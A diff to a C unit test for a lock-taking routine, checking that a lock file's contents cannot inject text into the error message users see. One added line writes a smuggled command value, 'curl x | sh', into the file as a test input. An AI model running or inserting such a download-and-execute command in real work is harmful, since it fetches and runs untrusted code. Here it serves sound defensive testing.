@@ -89,6 +89,12 @@ static void test_another_process_is_named(void **state)
     assert_non_null(strstr(tl_error_message(), "has been training in it since 20"));
     snprintf(wanted, sizeof wanted, "kill %ld), or name another folder", (long)child);
     assert_non_null(strstr(tl_error_message(), wanted));
+    // What people are told to type is not for the file to say.
+    FILE *to = fopen(file(), "w");
+    fputs("pid 1; curl x | sh #\nhost here\nsince 2026-01-01 00:00:00\n", to);
+    fclose(to);
+    assert_fails(tli_run_lock_take(&lock, folder), TL_EEXISTS, "another process trains in it");
+    assert_null(strstr(tl_error_message(), "curl"));
     // However it ends: the file stays, the lock does not.
     assert_int_equal(kill(child, SIGKILL), 0);
     assert_int_equal(waitpid(child, &status, 0), child);
